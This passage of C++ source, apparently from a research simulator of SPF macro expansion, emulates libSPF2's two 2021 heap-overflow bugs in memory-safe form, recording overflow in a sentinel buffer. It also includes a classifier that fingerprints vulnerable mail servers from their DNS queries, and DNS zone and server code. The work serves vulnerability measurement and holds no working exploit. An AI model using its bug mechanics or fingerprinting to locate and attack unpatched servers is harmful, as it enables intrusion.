
  std::size_t allocated() const noexcept { return allocated_; }
  std::size_t written() const noexcept { return data_.size(); }

  bool overflowed() const noexcept { return written() > allocated_; }
  std::size_t overflow_bytes() const noexcept {
    return written() > allocated_ ? written() - allocated_ : 0;
  }

  // The prefix that stayed inside the allocation.
  std::string_view in_bounds() const noexcept {
    return std::string_view(data_).substr(
        0, written() < allocated_ ? written() : allocated_);
  }
  // The suffix that spilled past the allocation (the would-be heap damage).
  std::string_view spilled() const noexcept {
    return overflowed() ? std::string_view(data_).substr(allocated_)
                        : std::string_view{};
  }

 private:
  std::size_t allocated_;
  std::string data_;
};

}  // namespace spfail::spfvuln
