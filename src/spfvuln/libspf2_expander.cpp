#include "spfvuln/libspf2_expander.hpp"

#include <algorithm>

#include "util/encoding.hpp"
#include "util/strings.hpp"

namespace spfail::spfvuln {

namespace {

// Joined length of a list of parts with single-character separators.
std::size_t joined_length(const std::vector<std::string>& parts,
                          std::size_t first, std::size_t count) {
  std::size_t len = 0;
  for (std::size_t i = first; i < first + count; ++i) {
    if (i > first) ++len;  // separator
    len += parts[i].size();
  }
  return len;
}

// Write one byte the way the vulnerable code does when URL encoding is on:
// unreserved characters pass through; everything else goes through
// sprintf("%%%02x", (char)c) — which emits 9 characters instead of the
// budgeted 3 whenever the byte has its high bit set (CVE-2021-33912).
void put_url_encoded(OverflowSentinel& buf, char ch, bool& sprintf_overflow) {
  const auto c = static_cast<unsigned char>(ch);
  if (util::is_url_unreserved(c)) {
    buf.put(ch);
    return;
  }
  const std::string emitted = util::libspf2_sprintf_encode_byte(c);
  if (emitted.size() > 3) sprintf_overflow = true;
  buf.put(emitted);
}

}  // namespace

ExpansionReport libspf2_expand_item(const spf::MacroItem& item,
                                    std::string_view value) {
  ExpansionReport report;

  std::vector<std::string> parts = util::split_any(value, item.delimiters);
  if (item.reverse) std::reverse(parts.begin(), parts.end());

  // --- length computation pass (mirrors the first pass of spf_expand) ---
  // The intended buffer length starts as the full (reversed) joined length...
  std::size_t intended = joined_length(parts, 0, parts.size());

  const bool truncates = item.keep > 0 &&
                         static_cast<std::size_t>(item.keep) < parts.size();
  const std::size_t kept =
      truncates ? static_cast<std::size_t>(item.keep) : parts.size();
  const std::size_t dropped = parts.size() - kept;

  if (item.reverse && truncates) {
    // CVE-2021-33913: the truncation branch *reassigns* the length variable
    // instead of taking the minimum, so the buffer is allocated from the
    // truncated length even though the write loop runs over more data.
    intended = joined_length(parts, dropped, kept);
    report.length_reassigned = true;
  }

  // When URL-escaping, the first pass budgets a flat 3 bytes per reserved
  // character ("we know we're going to get 4 characters anyway" [sic] —
  // 3 plus the terminating NUL). Compute that budget over the bytes the
  // first pass thinks it will write.
  std::size_t allocated = intended;
  if (item.url_escape) {
    std::size_t budget = 0;
    const std::size_t first = (item.reverse && truncates) ? dropped : 0;
    for (std::size_t i = first; i < parts.size(); ++i) {
      if (i > first) ++budget;  // separator, unreserved
      for (char ch : parts[i]) {
        budget += util::is_url_unreserved(static_cast<unsigned char>(ch)) ? 1 : 3;
      }
    }
    allocated = budget;
  }

  // --- write pass ---
  OverflowSentinel buf(allocated);
  const auto put = [&](char ch) {
    if (item.url_escape) {
      put_url_encoded(buf, ch, report.sprintf_overflow);
    } else {
      buf.put(ch);
    }
  };
  const auto put_parts = [&](std::size_t first, std::size_t count) {
    for (std::size_t i = first; i < first + count; ++i) {
      if (i > first) put('.');
      for (char ch : parts[i]) put(ch);
    }
  };

  if (item.reverse && truncates) {
    // The buggy write loop walks the *full* reversed list, but the pointer
    // bookkeeping restarts after the dropped prefix, so the dropped parts are
    // emitted and then the full list is emitted again from the start of the
    // undersized buffer region — duplicating the dropped labels in the
    // visible output (the "com.com.example" fingerprint) and writing past the
    // end of the allocation.
    put_parts(0, dropped);
    put('.');
    put_parts(0, parts.size());
  } else {
    // Non-reversing truncation takes the correct tail-slice path.
    const std::size_t first = truncates ? dropped : 0;
    put_parts(first, parts.size() - first);
  }

  report.output = buf.data();
  report.buffer_allocated = buf.allocated();
  report.buffer_written = buf.written();
  report.overflow_bytes = buf.overflow_bytes();
  return report;
}

std::string Libspf2Expander::expand(std::string_view macro_string,
                                    const spf::MacroContext& ctx) const {
  last_report_ = ExpansionReport{};
  std::string out;
  for (const spf::MacroToken& token : spf::parse_macro_string(macro_string)) {
    if (const auto* literal = std::get_if<spf::MacroLiteral>(&token)) {
      out += literal->text;
      continue;
    }
    const auto& item = std::get<spf::MacroItem>(token);
    const ExpansionReport item_report =
        libspf2_expand_item(item, spf::macro_letter_value(item.letter, ctx));
    out += item_report.output;
    last_report_.buffer_allocated += item_report.buffer_allocated;
    last_report_.buffer_written += item_report.buffer_written;
    last_report_.overflow_bytes += item_report.overflow_bytes;
    last_report_.length_reassigned |= item_report.length_reassigned;
    last_report_.sprintf_overflow |= item_report.sprintf_overflow;
  }
  last_report_.output = out;
  return out;
}

std::string Libspf2PatchedExpander::expand(std::string_view macro_string,
                                           const spf::MacroContext& ctx) const {
  // The upstream fix makes the arithmetic correct; output equals RFC 7208.
  return spf::Rfc7208Expander{}.expand(macro_string, ctx);
}

}  // namespace spfail::spfvuln
