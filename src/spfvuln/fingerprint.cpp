#include "spfvuln/fingerprint.hpp"

#include <array>

namespace spfail::spfvuln {

namespace {

// Behaviours with distinct fingerprints, in claim order: if two behaviours
// ever produced the same name, the earlier one wins the classification.
constexpr std::array kFingerprintable = {
    SpfBehavior::RfcCompliant,   SpfBehavior::VulnerableLibspf2,
    SpfBehavior::NoExpansion,    SpfBehavior::NoTruncation,
    SpfBehavior::NoReversal,     SpfBehavior::NoTransformers,
    SpfBehavior::OtherErroneous,
};

}  // namespace

FingerprintClassifier::FingerprintClassifier(dns::Name mail_from_domain,
                                             std::string macro)
    : domain_(std::move(mail_from_domain)), macro_(std::move(macro)) {
  spf::MacroContext ctx;
  ctx.sender_local = "postmaster";
  ctx.sender_domain = domain_;
  ctx.current_domain = domain_;
  ctx.client_ip = util::IpAddress::v4(192, 0, 2, 1);  // irrelevant to %{d...}

  for (const SpfBehavior behavior : kFingerprintable) {
    const auto expander = make_expander(behavior);
    const std::string expansion = expander->expand(macro_, ctx);
    const dns::Name query =
        dns::Name::lenient(expansion + "." + domain_.to_string());
    expected_.emplace(query.to_string(), behavior);
  }
}

std::optional<SpfBehavior> FingerprintClassifier::classify(
    const dns::Name& observed) const {
  if (!observed.is_subdomain_of(domain_)) return std::nullopt;
  if (observed == domain_) return std::nullopt;  // the TXT policy fetch
  const auto relative = observed.labels_relative_to(domain_);
  if (relative.size() == 1 && relative[0] == "b") {
    return std::nullopt;  // the control mechanism a:b.<domain>
  }
  if (!relative.empty() && relative.front() == "_dmarc") {
    return std::nullopt;  // a receiver's DMARC policy discovery, not a probe
  }
  const auto it = expected_.find(observed.to_string());
  if (it != expected_.end()) return it->second;
  return SpfBehavior::OtherErroneous;
}

dns::Name FingerprintClassifier::expected_query(SpfBehavior behavior) const {
  spf::MacroContext ctx;
  ctx.sender_local = "postmaster";
  ctx.sender_domain = domain_;
  ctx.current_domain = domain_;
  ctx.client_ip = util::IpAddress::v4(192, 0, 2, 1);
  const auto expander = make_expander(behavior);
  return dns::Name::lenient(expander->expand(macro_, ctx) + "." +
                            domain_.to_string());
}

}  // namespace spfail::spfvuln
