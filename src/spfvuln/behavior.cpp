#include "spfvuln/behavior.hpp"

#include <algorithm>

#include "spfvuln/libspf2_expander.hpp"
#include "spfvuln/variant_expanders.hpp"
#include "util/strings.hpp"

namespace spfail::spfvuln {

namespace {

// An implementation with an off-by-one digit transformer (keeps keep+1
// parts) — the kind of one-off bug the paper lumps into "other erroneous"
// expansions. Distinct from every named fingerprint on the >=3-label test
// domains the measurement uses.
class OffByOneTruncationExpander : public spf::MacroExpander {
 public:
  std::string expand(std::string_view macro_string,
                     const spf::MacroContext& ctx) const override {
    std::string out;
    for (const spf::MacroToken& token : spf::parse_macro_string(macro_string)) {
      if (const auto* literal = std::get_if<spf::MacroLiteral>(&token)) {
        out += literal->text;
        continue;
      }
      const auto& item = std::get<spf::MacroItem>(token);
      std::vector<std::string> parts = util::split_any(
          spf::macro_letter_value(item.letter, ctx), item.delimiters);
      if (item.reverse) std::reverse(parts.begin(), parts.end());
      const std::size_t keep = static_cast<std::size_t>(item.keep) + 1;
      if (item.keep > 0 && keep < parts.size()) {
        parts.erase(parts.begin(),
                    parts.end() - static_cast<std::ptrdiff_t>(keep));
      }
      out += util::join(parts, ".");
    }
    return out;
  }
  std::string_view id() const noexcept override { return "off-by-one"; }
};

}  // namespace

std::string to_string(SpfBehavior behavior) {
  switch (behavior) {
    case SpfBehavior::RfcCompliant:
      return "RFC-compliant";
    case SpfBehavior::VulnerableLibspf2:
      return "Vulnerable libSPF2";
    case SpfBehavior::PatchedLibspf2:
      return "Patched libSPF2";
    case SpfBehavior::NoExpansion:
      return "No macro expansion";
    case SpfBehavior::NoTruncation:
      return "Missing truncation";
    case SpfBehavior::NoReversal:
      return "Missing reversal";
    case SpfBehavior::NoTransformers:
      return "Missing reversal+truncation";
    case SpfBehavior::OtherErroneous:
      return "Other erroneous";
  }
  return "?";
}

bool is_erroneous(SpfBehavior behavior) {
  switch (behavior) {
    case SpfBehavior::RfcCompliant:
    case SpfBehavior::PatchedLibspf2:
      return false;
    default:
      return true;
  }
}

std::unique_ptr<spf::MacroExpander> make_expander(SpfBehavior behavior) {
  switch (behavior) {
    case SpfBehavior::RfcCompliant:
      return std::make_unique<spf::Rfc7208Expander>();
    case SpfBehavior::VulnerableLibspf2:
      return std::make_unique<Libspf2Expander>();
    case SpfBehavior::PatchedLibspf2:
      return std::make_unique<Libspf2PatchedExpander>();
    case SpfBehavior::NoExpansion:
      return std::make_unique<NoExpansionExpander>();
    case SpfBehavior::NoTruncation:
      return std::make_unique<NoTruncationExpander>();
    case SpfBehavior::NoReversal:
      return std::make_unique<NoReversalExpander>();
    case SpfBehavior::NoTransformers:
      return std::make_unique<NoTransformersExpander>();
    case SpfBehavior::OtherErroneous:
      return std::make_unique<OffByOneTruncationExpander>();
  }
  return std::make_unique<spf::Rfc7208Expander>();
}

}  // namespace spfail::spfvuln
