// Memory-safe emulation of libSPF2's vulnerable spf_expand() (section 4.1 of
// the paper), reproducing both CVEs:
//
//  * CVE-2021-33912 — URL-encoding sprintf overflow. spf_expand sizes the
//    output assuming every percent-escaped byte costs a constant number of
//    characters, then calls `sprintf(p, "%%%02x", *read)` on a *signed* char.
//    Bytes >= 0x80 sign-extend and print 8 hex digits instead of 2, writing
//    6 unbudgeted bytes per character past the end of the heap allocation.
//
//  * CVE-2021-33913 — label-reversal buffer-length reassignment. When a macro
//    carries the 'r' (reverse) transformer together with a digit truncation,
//    the variable tracking the intended buffer length is overwritten with the
//    much smaller *truncated* length, but the write loop still emits the
//    untruncated reversed output — and, due to the same pointer bookkeeping
//    error, re-emits the leading (dropped) parts, corrupting the expanded
//    label. The corruption is visible in the MTA's next DNS query, which is
//    the paper's benign remote-detection fingerprint:
//
//        sender user@example.com, mechanism a:%{d1r}.foo.com
//          example.foo.com          RFC-compliant
//          com.example.foo.com      non-compliant (missing truncation)
//          com.com.example.foo.com  vulnerable libSPF2            <- this code
//
// The emulation performs the same arithmetic as the C code but writes into an
// OverflowSentinel, so overflow is *recorded*, never executed.
#pragma once

#include <vector>

#include "spf/macro.hpp"
#include "spfvuln/overflow_sentinel.hpp"

namespace spfail::spfvuln {

// What one expansion did to its (emulated) heap buffer.
struct ExpansionReport {
  std::string output;            // the string the MTA actually uses downstream
  std::size_t buffer_allocated = 0;  // bytes spf_expand allocated
  std::size_t buffer_written = 0;    // bytes it wrote
  std::size_t overflow_bytes = 0;    // written past the allocation
  bool length_reassigned = false;    // CVE-2021-33913 arithmetic fired
  bool sprintf_overflow = false;     // CVE-2021-33912 fired (>=1 high-bit byte)
};

// Expand one macro item the way vulnerable libSPF2 1.2.10 does.
// `value` is the raw macro-letter value (e.g. the current domain).
ExpansionReport libspf2_expand_item(const spf::MacroItem& item,
                                    std::string_view value);

class Libspf2Expander : public spf::MacroExpander {
 public:
  std::string expand(std::string_view macro_string,
                     const spf::MacroContext& ctx) const override;
  std::string_view id() const noexcept override { return "libspf2-vulnerable"; }

  // Report for the most recent expand() call (aggregated over macro items).
  const ExpansionReport& last_report() const noexcept { return last_report_; }

 private:
  mutable ExpansionReport last_report_;
};

// The *patched* libSPF2 behaviour (what servers upgrade to): identical
// interface, RFC-correct output, zero overflow. Kept distinct from
// Rfc7208Expander so the longitudinal simulation can distinguish "patched
// libSPF2" from "switched validation library" if desired.
class Libspf2PatchedExpander : public spf::MacroExpander {
 public:
  std::string expand(std::string_view macro_string,
                     const spf::MacroContext& ctx) const override;
  std::string_view id() const noexcept override { return "libspf2-patched"; }
};

}  // namespace spfail::spfvuln
