// Non-RFC-compliant macro expansion engines observed in the wild.
//
// Section 7.9 / Table 7 of the paper classifies the erroneous (but not
// vulnerable) SPF implementations by how they mis-expand %{d1r}:
// failing to expand at all, failing to truncate, failing to reverse, or both.
// Each variant here implements MacroExpander so a simulated MTA can run it,
// and the FingerprintClassifier uses the same engines to predict each
// behaviour's observable DNS query.
#pragma once

#include "spf/macro.hpp"

namespace spfail::spfvuln {

// Leaves the macro text literally in place: queries arrive for
// "%{d1r}.<id>.<suite>.spf-test.dns-lab.org".
class NoExpansionExpander : public spf::MacroExpander {
 public:
  std::string expand(std::string_view macro_string,
                     const spf::MacroContext& ctx) const override;
  std::string_view id() const noexcept override { return "no-expansion"; }
};

// Honours 'r' but ignores digit transformers ("com.example" fingerprint).
class NoTruncationExpander : public spf::MacroExpander {
 public:
  std::string expand(std::string_view macro_string,
                     const spf::MacroContext& ctx) const override;
  std::string_view id() const noexcept override { return "no-truncation"; }
};

// Honours digits but ignores 'r' (truncates the *unreversed* label list).
class NoReversalExpander : public spf::MacroExpander {
 public:
  std::string expand(std::string_view macro_string,
                     const spf::MacroContext& ctx) const override;
  std::string_view id() const noexcept override { return "no-reversal"; }
};

// Ignores both transformers: the raw macro value is substituted.
class NoTransformersExpander : public spf::MacroExpander {
 public:
  std::string expand(std::string_view macro_string,
                     const spf::MacroContext& ctx) const override;
  std::string_view id() const noexcept override { return "no-transformers"; }
};

}  // namespace spfail::spfvuln
