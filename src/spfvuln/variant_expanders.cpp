#include "spfvuln/variant_expanders.hpp"

#include <algorithm>

#include "util/encoding.hpp"
#include "util/strings.hpp"

namespace spfail::spfvuln {

namespace {

// Shared driver: parse, expand each item through `transform`, concatenate.
template <typename TransformFn>
std::string expand_with(std::string_view macro_string,
                        const spf::MacroContext& ctx, TransformFn transform) {
  std::string out;
  for (const spf::MacroToken& token : spf::parse_macro_string(macro_string)) {
    if (const auto* literal = std::get_if<spf::MacroLiteral>(&token)) {
      out += literal->text;
      continue;
    }
    const auto& item = std::get<spf::MacroItem>(token);
    std::string value = transform(item, spf::macro_letter_value(item.letter, ctx));
    if (item.url_escape) value = util::url_encode(value);
    out += value;
  }
  return out;
}

std::string transform_skipping(std::string_view value,
                               const spf::MacroItem& item, bool do_reverse,
                               bool do_truncate) {
  std::vector<std::string> parts = util::split_any(value, item.delimiters);
  if (do_reverse && item.reverse) std::reverse(parts.begin(), parts.end());
  if (do_truncate && item.keep > 0 &&
      static_cast<std::size_t>(item.keep) < parts.size()) {
    parts.erase(parts.begin(),
                parts.end() - static_cast<std::ptrdiff_t>(item.keep));
  }
  return util::join(parts, ".");
}

}  // namespace

std::string NoExpansionExpander::expand(std::string_view macro_string,
                                        const spf::MacroContext& ctx) const {
  (void)ctx;
  // Still *parses* (a real implementation that chokes on syntax would
  // temperror out) but substitutes nothing.
  spf::parse_macro_string(macro_string);
  return std::string(macro_string);
}

std::string NoTruncationExpander::expand(std::string_view macro_string,
                                         const spf::MacroContext& ctx) const {
  return expand_with(macro_string, ctx,
                     [](const spf::MacroItem& item, std::string_view value) {
                       return transform_skipping(value, item, true, false);
                     });
}

std::string NoReversalExpander::expand(std::string_view macro_string,
                                       const spf::MacroContext& ctx) const {
  return expand_with(macro_string, ctx,
                     [](const spf::MacroItem& item, std::string_view value) {
                       return transform_skipping(value, item, false, true);
                     });
}

std::string NoTransformersExpander::expand(std::string_view macro_string,
                                           const spf::MacroContext& ctx) const {
  return expand_with(macro_string, ctx,
                     [](const spf::MacroItem& item, std::string_view value) {
                       return transform_skipping(value, item, false, false);
                     });
}

}  // namespace spfail::spfvuln
