// The SPF macro-expansion behaviour taxonomy (paper sections 4.2, 7.9).
//
// Each simulated MTA is assigned one (or, for multi-stack hosts, several) of
// these behaviours; the scanner's job is to recover them from DNS queries.
#pragma once

#include <memory>
#include <string>

#include "spf/macro.hpp"

namespace spfail::spfvuln {

enum class SpfBehavior {
  RfcCompliant,       // example.foo.com
  VulnerableLibspf2,  // com.com.example.foo.com  (the CVE fingerprint)
  PatchedLibspf2,     // RFC-correct output from the fixed library
  NoExpansion,        // %{d1r}.foo.com queried literally
  NoTruncation,       // com.example.foo.com
  NoReversal,         // com.foo.com (truncates the unreversed list)
  NoTransformers,     // example.com.foo.com
  OtherErroneous,     // anything else that is neither compliant nor above
};

std::string to_string(SpfBehavior behavior);

// True for behaviours whose expansion differs from RFC 7208 output.
bool is_erroneous(SpfBehavior behavior);

// True only for the vulnerable library.
constexpr bool is_vulnerable(SpfBehavior behavior) {
  return behavior == SpfBehavior::VulnerableLibspf2;
}

// Factory: the expansion engine an MTA with this behaviour runs.
// OtherErroneous gets a deliberately odd engine (swapped transformer order)
// so it produces a query that matches no known fingerprint.
std::unique_ptr<spf::MacroExpander> make_expander(SpfBehavior behavior);

}  // namespace spfail::spfvuln
