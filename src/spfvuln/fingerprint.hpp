// Remote-detection fingerprint classification (paper section 4.2).
//
// Given the unique per-test MAIL FROM domain, the classifier precomputes what
// each known SPF implementation behaviour would query for the test record's
// "a:%{d1r}.<domain>" mechanism, then maps observed authoritative-server
// queries back to behaviours. A patched libSPF2 is indistinguishable from any
// other RFC-compliant validator — exactly as in the paper, where "patched"
// means "now measures as RFC-compliant".
#pragma once

#include <map>
#include <optional>
#include <string>

#include "dns/name.hpp"
#include "spfvuln/behavior.hpp"

namespace spfail::spfvuln {

class FingerprintClassifier {
 public:
  // `mail_from_domain` is the per-test unique domain
  // (<id>.<suite>.spf-test.dns-lab.org); `macro` is the macro-string in the
  // served SPF record (the paper uses "%{d1r}").
  explicit FingerprintClassifier(dns::Name mail_from_domain,
                                 std::string macro = "%{d1r}");

  // Classify one observed query name. Returns nullopt for names that are not
  // macro-expansion probes (the TXT fetch for the domain itself, the "b."
  // control lookup); returns OtherErroneous for probe-shaped names matching
  // no known behaviour.
  std::optional<SpfBehavior> classify(const dns::Name& observed) const;

  // The exact name each behaviour queries (for tests and documentation).
  dns::Name expected_query(SpfBehavior behavior) const;

  const dns::Name& domain() const noexcept { return domain_; }

 private:
  dns::Name domain_;
  std::string macro_;
  // Expected full query name (presentation form) -> behaviour.
  std::map<std::string, SpfBehavior> expected_;
};

}  // namespace spfail::spfvuln
