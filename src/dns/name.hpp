// DNS domain names (RFC 1035 section 3.1).
//
// A Name is an ordered list of labels, most-specific first, always handled
// case-insensitively (we canonicalise to lowercase at construction). The SPF
// detection technique is entirely about *which names* arrive at the
// authoritative server, so Name is the central currency of the measurement.
#pragma once

#include <compare>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace spfail::dns {

class Name {
 public:
  Name() = default;

  // Parse presentation format ("mail.example.com", trailing dot optional).
  // Throws std::invalid_argument for names violating RFC 1035 length limits
  // (label > 63 octets, total > 253 octets) or empty labels.
  static Name from_string(std::string_view text);

  // Like from_string but never throws: malformed names are preserved as an
  // opaque single label so that *observed* erroneous queries (the whole point
  // of the vulnerability fingerprint) can still be represented and compared.
  static Name lenient(std::string_view text);

  static Name root() { return Name{}; }

  const std::vector<std::string>& labels() const noexcept { return labels_; }
  bool empty() const noexcept { return labels_.empty(); }
  std::size_t label_count() const noexcept { return labels_.size(); }

  // Presentation form without trailing dot; "." for the root.
  std::string to_string() const;

  // Total wire length in octets (sum of 1+len per label, +1 for root).
  std::size_t wire_length() const noexcept;

  // The name with its first (leftmost) label removed; root stays root.
  Name parent() const;

  // child("mx1") of "example.com" is "mx1.example.com".
  Name child(std::string_view label) const;

  // True if this name equals `suffix` or ends with it ("a.b.com" under "b.com").
  bool is_subdomain_of(const Name& suffix) const noexcept;

  // Labels of *this* minus the trailing labels of `suffix`; only valid when
  // is_subdomain_of(suffix).
  std::vector<std::string> labels_relative_to(const Name& suffix) const;

  // The rightmost label ("com" for "mail.example.com"), empty for root.
  std::string tld() const;

  friend auto operator<=>(const Name&, const Name&) = default;

 private:
  std::vector<std::string> labels_;
};

std::ostream& operator<<(std::ostream& os, const Name& name);

}  // namespace spfail::dns
