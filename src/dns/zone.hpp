// In-memory zone storage with exact-match lookup and CNAME awareness.
#pragma once

#include <map>
#include <optional>
#include <vector>

#include "dns/record.hpp"

namespace spfail::dns {

struct LookupResult {
  enum class Status {
    Success,   // one or more records of the requested type
    NoData,    // name exists, but not with that type
    NxDomain,  // name does not exist in the zone
  };
  Status status = Status::NxDomain;
  std::vector<ResourceRecord> records;  // answers, including CNAME chain
};

class Zone {
 public:
  explicit Zone(Name origin) : origin_(std::move(origin)) {}

  const Name& origin() const noexcept { return origin_; }

  // Throws std::invalid_argument if the record's owner is outside the zone.
  void add(ResourceRecord record);
  void remove_all(const Name& name);
  void remove(const Name& name, RRType type);

  bool contains(const Name& name) const noexcept { return records_.count(name) > 0; }
  std::size_t record_count() const noexcept;

  // Exact-name lookup with single-level CNAME chasing inside the zone.
  LookupResult lookup(const Name& qname, RRType qtype) const;

  // If `qname` sits at or below a delegation point inside this zone (a name
  // other than the origin holding NS records), return those NS records —
  // the referral an authoritative server answers with.
  std::optional<std::vector<ResourceRecord>> delegation_for(
      const Name& qname) const;

 private:
  Name origin_;
  std::map<Name, std::vector<ResourceRecord>> records_;
};

}  // namespace spfail::dns
