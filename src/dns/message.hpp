// DNS message structure and RFC 1035 wire-format codec, including name
// compression on encode and pointer-chase protection on decode.
//
// The simulation could pass Message objects around in memory, but encoding to
// the real wire format (and decoding back) keeps the substrate honest: the
// query log records exactly what would have crossed the network, byte for
// byte, including erroneous names produced by vulnerable SPF expansions.
#pragma once

#include <cstdint>
#include <optional>
#include <stdexcept>
#include <string>
#include <vector>

#include "dns/record.hpp"

namespace spfail::dns {

enum class Opcode : std::uint8_t { Query = 0, Status = 2 };

enum class Rcode : std::uint8_t {
  NoError = 0,
  FormErr = 1,
  ServFail = 2,
  NxDomain = 3,
  NotImp = 4,
  Refused = 5,
};

std::string to_string(Rcode rcode);

struct Header {
  std::uint16_t id = 0;
  bool qr = false;  // response flag
  Opcode opcode = Opcode::Query;
  bool aa = false;  // authoritative answer
  bool tc = false;  // truncated
  bool rd = true;   // recursion desired
  bool ra = false;  // recursion available
  Rcode rcode = Rcode::NoError;

  friend bool operator==(const Header&, const Header&) = default;
};

struct Question {
  Name qname;
  RRType qtype = RRType::A;
  RRClass qclass = RRClass::IN;

  friend bool operator==(const Question&, const Question&) = default;
};

struct Message {
  Header header;
  std::vector<Question> questions;
  std::vector<ResourceRecord> answers;
  std::vector<ResourceRecord> authorities;
  std::vector<ResourceRecord> additionals;

  friend bool operator==(const Message&, const Message&) = default;

  static Message make_query(std::uint16_t id, const Name& qname, RRType qtype);
  // A response skeleton echoing `query`'s id and question.
  static Message make_response(const Message& query, Rcode rcode);
};

// Thrown for malformed wire data (truncation, bad pointers, length overruns).
class WireError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

// Encode to wire format. Applies name compression to owner names and to names
// embedded in MX/CNAME/NS/SOA/PTR rdata (as RFC 1035 permits).
std::vector<std::uint8_t> encode(const Message& message);

// Decode from wire format; throws WireError on malformed input.
Message decode(const std::vector<std::uint8_t>& wire);

}  // namespace spfail::dns
