#include "dns/zone.hpp"

#include <algorithm>
#include <stdexcept>

namespace spfail::dns {

void Zone::add(ResourceRecord record) {
  if (!record.name.is_subdomain_of(origin_)) {
    throw std::invalid_argument("Zone::add: " + record.name.to_string() +
                                " is outside zone " + origin_.to_string());
  }
  records_[record.name].push_back(std::move(record));
}

void Zone::remove_all(const Name& name) { records_.erase(name); }

void Zone::remove(const Name& name, RRType type) {
  const auto it = records_.find(name);
  if (it == records_.end()) return;
  auto& rrs = it->second;
  rrs.erase(std::remove_if(rrs.begin(), rrs.end(),
                           [&](const ResourceRecord& rr) {
                             return rr.type == type;
                           }),
            rrs.end());
  if (rrs.empty()) records_.erase(it);
}

std::size_t Zone::record_count() const noexcept {
  std::size_t n = 0;
  for (const auto& [name, rrs] : records_) n += rrs.size();
  return n;
}

std::optional<std::vector<ResourceRecord>> Zone::delegation_for(
    const Name& qname) const {
  // Walk the suffixes of qname from most- to least-specific, stopping at the
  // origin (NS at the origin are the zone's own servers, not a delegation).
  Name candidate = qname;
  while (candidate.label_count() > origin_.label_count()) {
    const auto it = records_.find(candidate);
    if (it != records_.end()) {
      std::vector<ResourceRecord> ns_records;
      for (const auto& rr : it->second) {
        if (rr.type == RRType::NS) ns_records.push_back(rr);
      }
      if (!ns_records.empty()) return ns_records;
    }
    candidate = candidate.parent();
  }
  return std::nullopt;
}

LookupResult Zone::lookup(const Name& qname, RRType qtype) const {
  LookupResult result;
  const auto it = records_.find(qname);
  if (it == records_.end()) {
    result.status = LookupResult::Status::NxDomain;
    return result;
  }

  // Collect matches; ANY returns everything at the node.
  const ResourceRecord* cname = nullptr;
  for (const auto& rr : it->second) {
    if (qtype == RRType::ANY || rr.type == qtype) {
      result.records.push_back(rr);
    } else if (rr.type == RRType::CNAME) {
      cname = &rr;
    }
  }
  if (!result.records.empty()) {
    result.status = LookupResult::Status::Success;
    return result;
  }
  if (cname != nullptr) {
    // Chase one level inside the zone; external targets are left for the
    // resolver to follow.
    result.records.push_back(*cname);
    const Name& target = std::get<CnameRdata>(cname->rdata).target;
    if (target.is_subdomain_of(origin_) && target != qname) {
      LookupResult chased = lookup(target, qtype);
      for (auto& rr : chased.records) result.records.push_back(std::move(rr));
    }
    result.status = LookupResult::Status::Success;
    return result;
  }
  result.status = LookupResult::Status::NoData;
  return result;
}

}  // namespace spfail::dns
