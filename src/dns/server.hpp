// Authoritative DNS server.
//
// Serves static zones plus "dynamic responders" — suffix-keyed callbacks that
// synthesise records on the fly. The SPFail measurement apparatus registers a
// responder for spf-test.dns-lab.org that echoes the per-target <id>/<suite>
// labels back inside a templated SPF policy (see scan/test_responder.hpp).
// Every received query is appended to the QueryLog, which is the measurement
// instrument for the whole study.
#pragma once

#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <vector>

#include "dns/message.hpp"
#include "dns/query_log.hpp"
#include "dns/zone.hpp"

namespace spfail::dns {

// Anything that can answer DNS queries in the simulation.
class DnsService {
 public:
  virtual ~DnsService() = default;

  // Handle one query message from `client` at simulated time `now`.
  virtual Message handle(const Message& query, const util::IpAddress& client,
                         util::SimTime now) = 0;
};

class AuthoritativeServer : public DnsService {
 public:
  // Dynamic responder: return records for (qname, qtype), or nullopt for
  // NXDOMAIN, or an empty vector for NODATA.
  using DynamicResponder = std::function<std::optional<std::vector<ResourceRecord>>(
      const Name& qname, RRType qtype)>;

  // Zones are matched longest-suffix-first.
  void add_zone(Zone zone);
  Zone* find_zone(const Name& origin);

  void add_responder(const Name& suffix, DynamicResponder responder);

  Message handle(const Message& query, const util::IpAddress& client,
                 util::SimTime now) override;

  // The log queries are recorded to *on the calling thread*: the
  // authoritative log normally, or the thread's LogLane while one is active.
  // Sharded scan workers each route their probes' queries into a private
  // lane log and splice it into the authoritative log at merge time, so
  // recording never contends across threads.
  QueryLog& query_log() noexcept { return active_log(); }
  const QueryLog& query_log() const noexcept { return active_log(); }

  // The authoritative log regardless of any lane on this thread (merge and
  // post-run forensics use this).
  QueryLog& authoritative_log() noexcept { return log_; }
  const QueryLog& authoritative_log() const noexcept { return log_; }

  // RAII redirect of this thread's query recording to `lane`. At most one
  // per thread; queries to *other* servers are unaffected.
  class LogLane {
   public:
    LogLane(const AuthoritativeServer& server, QueryLog& lane);
    ~LogLane();
    LogLane(const LogLane&) = delete;
    LogLane& operator=(const LogLane&) = delete;
  };

 private:
  QueryLog& active_log() const noexcept {
    return lane_.server == this ? *lane_.log : log_;
  }

  struct LaneState {
    const AuthoritativeServer* server = nullptr;
    QueryLog* log = nullptr;
  };
  static thread_local LaneState lane_;

  // Keyed by reversed label count via std::map<Name, ...> won't give longest
  // match directly; store and scan (zone counts here are small).
  std::vector<Zone> zones_;
  std::vector<std::pair<Name, DynamicResponder>> responders_;
  mutable QueryLog log_;
};

}  // namespace spfail::dns
