// Iterative (recursive-resolver) DNS resolution over a simulated namespace
// of delegating authoritative servers.
//
// The StubResolver talks to a single all-knowing authority — fine for the
// measurement study, whose instrument *is* that authority's log. This module
// models the fuller picture the paper's methodology reasons about (§5.1's
// cache-busting labels exist because of resolvers like this one): a root
// server delegates to TLD servers, which delegate to leaf zones; the
// RecursiveResolver chases referrals and caches what it learns.
#pragma once

#include <map>
#include <memory>

#include "dns/resolver.hpp"
#include "dns/server.hpp"
#include "faults/fault.hpp"
#include "faults/retry.hpp"
#include "net/transport.hpp"
#include "util/clock.hpp"

namespace spfail::dns {

// The simulated server-side namespace: authoritative servers addressable by
// nameserver hostname (glue resolution is by name, not IP, for simplicity —
// the referral-chasing logic is identical).
class NameServerRegistry {
 public:
  // Register `server` as authoritative, reachable as `nameserver`.
  void add(const Name& nameserver, AuthoritativeServer& server);

  AuthoritativeServer* find(const Name& nameserver) const;

 private:
  std::map<Name, AuthoritativeServer*> servers_;
};

struct RecursiveStats {
  std::size_t queries_sent = 0;    // messages to authoritative servers
